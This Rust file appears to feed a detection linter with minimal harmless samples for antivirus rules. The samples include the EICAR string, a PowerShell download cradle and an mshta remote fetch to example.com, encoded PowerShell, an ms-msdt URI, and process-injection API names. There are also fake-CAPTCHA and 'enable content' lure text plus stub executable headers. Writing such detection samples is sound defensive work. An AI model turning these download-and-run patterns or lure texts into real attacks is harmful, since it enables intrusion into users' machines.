//! The smallest text or bytes each shipped rule must match; the rule linter reads them.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::{Sample, mark};

/// A sample made of text.
macro_rules! text {
    ($id:literal, $text:expr) => {
        Sample {
            id: $id,
            file_name: "sample.txt",
            about: "what one rule must match",
            make: || String::into_bytes($text),
        }
    };
}

/// Samples of the shipped rules.
pub(super) fn samples() -> Vec<Sample> {
    vec![
        // Joined at run time: neither this file nor the program holds the test string whole.
        text!("rule-eicar", [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-", "TEST-FILE!$H+H*"].concat()),
        text!("rule-marker", mark("rule-marker")),
        text!("rule-base64-program", format!("payload = \"{}\"", STANDARD.encode(stub(0)))),
        text!("rule-certutil", "certutil -decode cert.txt harmless-none.exe".to_owned()),
        text!("rule-mshta", "mshta.exe http://example.com/a.hta".to_owned()),
        text!("rule-powershell-cradle", {
            "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')".to_owned()
        }),
        text!("rule-powershell-encoded", {
            let utf16: Vec<u8> =
                "Write-Output 'harmless sample text'".encode_utf16().flat_map(u16::to_le_bytes).collect();
            format!("powershell.exe -nop -w hidden -enc {}", STANDARD.encode(utf16))
        }),
        Sample {
            id: "rule-xored-program",
            file_name: "blob.dat",
            about: "what one rule must match",
            make: || stub(0x5a),
        },
        Sample { id: "rule-equation", file_name: "Equation Native", about: "what one rule must match", make: equation },
        text!("rule-msdt", "ms-msdt:/id PCWDiagnostic /param \"IT_BrowseForFile=harmless\"".to_owned()),
        text!("rule-url-moniker", {
            r"{\rtf1{\object{\*\objdata d0cf11e0a1b11ae1 e0c9ea79f9bace118c8200aa004ba90b}}}".to_owned()
        }),
        text!("rule-enable-content", {
            "このファイルは保護されています。「編集を有効にする」を押し、次に「コンテンツの有効化」を押してください。"
                .to_owned()
        }),
        text!("rule-run-dialog", {
            "I am not a robot: press Windows key + R, then Ctrl + V and Enter to finish verification.".to_owned()
        }),
        Sample { id: "rule-autoit", file_name: "script.a3x", about: "what one rule must match", make: autoit },
        Sample { id: "rule-nsis", file_name: "overlay.bin", about: "what one rule must match", make: nsis },
        text!(
            "rule-sfx",
            ";!@Install@!UTF-8!\nTitle=\"x\"\nRunProgram=\"harmless-none.exe\"\n;!@InstallEnd@!".to_owned()
        ),
        text!("rule-dead-drop", "MZ http://sample.ameblo.jp/entry-1".to_owned()),
        text!("rule-injection", "MZ VirtualAllocEx WriteProcessMemory CreateRemoteThread".to_owned()),
        text!("rule-html-blob", {
            "<script>var b=new Blob([new Uint8Array([1])]);a.href=URL.createObjectURL(b);a.download = 'x.txt';</script>"
                .to_owned()
        }),
        text!("rule-wmi", "GetObject(\"winmgmts:\").Get(\"Win32_Process\").Create \"harmless-none.exe\"".to_owned()),
    ]
}

fn stub(key: u8) -> Vec<u8> {
    let mut bytes = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
    bytes.resize(0x4e, 0);
    bytes.extend_from_slice(b"This program cannot be run in DOS mode.\r\r\n$");
    bytes.iter().map(|byte| byte ^ key).collect()
}

fn equation() -> Vec<u8> {
    let mut bytes = vec![0x1c, 0, 0, 0, 2, 0];
    bytes.extend([0u8; 22]);
    bytes.extend([3, 1, 1, 3, 0x0a, 8, 1, 1]);
    bytes.extend([b'A'; 64]);
    bytes
}

fn autoit() -> Vec<u8> {
    let mut bytes =
        vec![0xa3, 0x48, 0x4b, 0xbe, 0x98, 0x6c, 0x4a, 0xa9, 0x99, 0x4c, 0x53, 0x0a, 0x86, 0xd6, 0x48, 0x7d];
    bytes.extend_from_slice(b"AU3!EA06");
    bytes
}

fn nsis() -> Vec<u8> {
    let mut bytes = vec![0, 0, 0, 0, 0xef, 0xbe, 0xad, 0xde];
    bytes.extend_from_slice(b"NullsoftInst");
    bytes
}
